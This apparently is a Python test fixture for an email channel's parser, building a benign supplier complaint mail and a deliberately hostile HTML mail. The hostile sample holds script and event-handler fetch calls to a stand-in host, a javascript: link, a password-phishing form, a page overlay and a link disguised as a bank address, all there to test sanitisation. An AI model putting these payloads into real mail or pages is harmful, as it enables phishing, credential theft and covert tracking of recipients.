"""Mails as customers send them, and as nobody should."""

from datetime import timedelta
from email.message import EmailMessage
from pathlib import Path

from channels.contract import Heard, InboundRequest, Origin
from channels.email.smtp import Smtp, SmtpConfig
from tests.house.tree import ROOT
from tests.services.api.house import NATURAL_NAME, NOON

OURS = "help@acme.example"
CHANNEL = Smtp(SmtpConfig(address=OURS))
ICON = Path(ROOT / "tests" / "services" / "desk" / "flower.png")

NEWS = """\
<html><head><style>td { color: red }</style></head><body bgcolor="#f4f0e8">
<table width="640" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #d8d0c0">
<tr><td style="background-color:#2c5e4a;color:#ffffff;padding:24px;font-size:22px;font-family:Georgia, serif">
<img src="cid:flower@shop.example" width="48" height="48" alt="" style="vertical-align:middle"> Garden of Shiraz</td>
</tr>
<tr><td style="padding:24px;font-family:Georgia, serif;font-size:16px;line-height:1.6">
<p>Dear Acme,</p><p>your last delivery had <b>three boxes</b> too few. Here is what we asked for:</p>
<table width="100%" cellpadding="8" style="border-collapse:collapse">
<tr style="background:#f4f0e8"><th align="left">Article</th><th align="right">Asked</th><th align="right">Came</th></tr>
<tr><td style="border-bottom:1px solid #d8d0c0">Saffron, 5 g</td>
<td align="right" style="border-bottom:1px solid #d8d0c0">12</td>
<td align="right" style="border-bottom:1px solid #d8d0c0;color:#b3261e">9</td></tr></table>
<p><img src="https://pictures.example/banner.png" alt="Spring sale" width="592" height="80">
<a href="https://shiraz.example/orders/88213">The order</a> · <a href="mailto:orders@shiraz.example">Write to us</a></p>
<img src="https://pictures.example/seen.gif" width="1" height="1" alt=""></td></tr></table></body></html>"""

HOSTILE = """\
<html><head><base href="http://elsewhere.example/"><meta http-equiv="refresh" content="0;url=http://elsewhere.example/m">
<link rel="stylesheet" href="http://elsewhere.example/l"><style>@import "http://elsewhere.example/s";</style></head>
<body onload="fetch('http://elsewhere.example/b')" background="http://elsewhere.example/g">
<p>Still here</p><script>top.document.title = "mine"; fetch("http://elsewhere.example/1")</script>
<img src="x" onerror="fetch('http://elsewhere.example/2')"><img src="http://elsewhere.example/3">
<svg onload="fetch('http://elsewhere.example/4')"><image href="http://elsewhere.example/5"/></svg>
<iframe src="http://elsewhere.example/6"></iframe><iframe srcdoc="<script>fetch('http://elsewhere.example/7')</script>">
</iframe><object data="http://elsewhere.example/8"></object><embed src="http://elsewhere.example/9">
<form action="http://elsewhere.example/10"><input name="password"><button id="trap">Sign in again</button></form>
<p style="background:url(http://elsewhere.example/11);position:fixed;inset:0">Over all</p>
<video autoplay src="http://elsewhere.example/12" poster="http://elsewhere.example/13"></video>
<a id="bad" href="javascript:fetch('http://elsewhere.example/14')">Press here</a>
<a href="http://elsewhere.example/honest">https://your-bank.example</a></body></html>"""


def letter(
    key: str, html: str | None, text: str = "as text", sender: str = "mina@shiraz.example", **more: str
) -> Heard:
    """What our mail channel makes of it."""
    made = EmailMessage()
    made["From"], made["To"], made["Message-ID"] = sender, OURS, f"<{key}@shiraz.example>"
    made["Subject"] = more.get("subject", "Three boxes too few")
    made.set_content(text)
    if html is not None:
        made.add_alternative(html, subtype="html")
        body = made.get_payload(1)
        assert isinstance(body, EmailMessage)
        body.add_related(ICON.read_bytes(), "image", "png", cid="<flower@shop.example>")
    at = NOON + timedelta(minutes=50)
    request = InboundRequest("MAIL", f"mailto:{OURS}", (), made.as_bytes(), at, Origin("shop", NATURAL_NAME))
    (heard,) = CHANNEL.parse(request)
    return heard
